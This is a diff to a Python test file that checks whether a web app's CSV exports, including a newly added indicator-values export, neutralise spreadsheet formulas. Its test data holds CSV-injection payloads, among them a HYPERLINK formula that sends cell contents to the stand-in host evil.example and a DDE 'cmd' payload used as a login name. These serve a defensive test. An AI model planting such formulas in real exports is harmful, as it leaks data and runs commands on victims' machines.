@@ -19,7 +19,7 @@ from boards import actions, catalog, displays, people
 from boards.db import Database
 
 from .conftest import PUBLIC_URL, login, make_app
-from .factories import PASSWORD
+from .factories import PASSWORD, add_indicator
 
 PREFIXED = ["=HYPERLINK(\"http://evil.example\"&A1,\"klik\")", "+31 6 1234", "-2+3", "@SUM(1,2)"]
 
@@ -57,8 +57,11 @@ def test_every_csv_export_neutralises_formulas(app, client, db, world):
         s.commit()
     login(client, "=cmd|' /C calc'!A0", "x")  # a failed login lands in the security log
     login(client, "admin@test.example")
-    paths = list(csv_paths(app, {"slug": "wonen", "number": world.cycle}))
-    assert len(paths) == 6  # board, cycle, cycle review, overview, activity log, security log
+    indicator_id = add_indicator(db, world, name=PREFIXED[0])
+    paths = list(csv_paths(app, {"slug": "wonen", "number": world.cycle,
+                                 "indicator_id": indicator_id}))
+    # board, cycle, cycle review, overview, activity log, security log, indicator values
+    assert len(paths) == 7
     for path in paths:
         cells = csv_cells(client.get(path))
         assert not [c for c in cells if c.startswith(FORMULA_STARTS)], path
@@ -66,6 +69,8 @@ def test_every_csv_export_neutralises_formulas(app, client, db, world):
     for dangerous in PREFIXED + ["\tcmd|' /C calc'!A0", "\r=1+1"]:
         assert "'" + dangerous in board
     assert "'=Team som" in csv_cells(client.get("/overview/export.csv"))
+    assert "'" + PREFIXED[0] + " (dagen)" in csv_cells(
+        client.get(f"/indicators/{indicator_id}/values.csv"))
     assert "'=cmd|' /C calc'!A0" in csv_cells(client.get("/admin/security/export.csv"))
 
 
@@ -80,7 +85,8 @@ def test_no_logged_in_response_without_no_store(app, client, db, world):
     values = {"slug": "wonen", "action_id": card.id, "number": world.cycle, "token": token,
               "link_token": "x", "person_id": world.anna, "team_id": world.wonen_id,
               "ident": world.anna, "_rest": "Nothing", "link_id": 1, "municipality_id": 1,
-              "feed_token": "x"}
+              "feed_token": "x", "goal_id": world.short_goal,
+              "indicator_id": add_indicator(db, world)}
     checked = 0
     for rule in app.url_map.iter_rules():
         # Static files, the service worker script and the organisation's logo and theme are
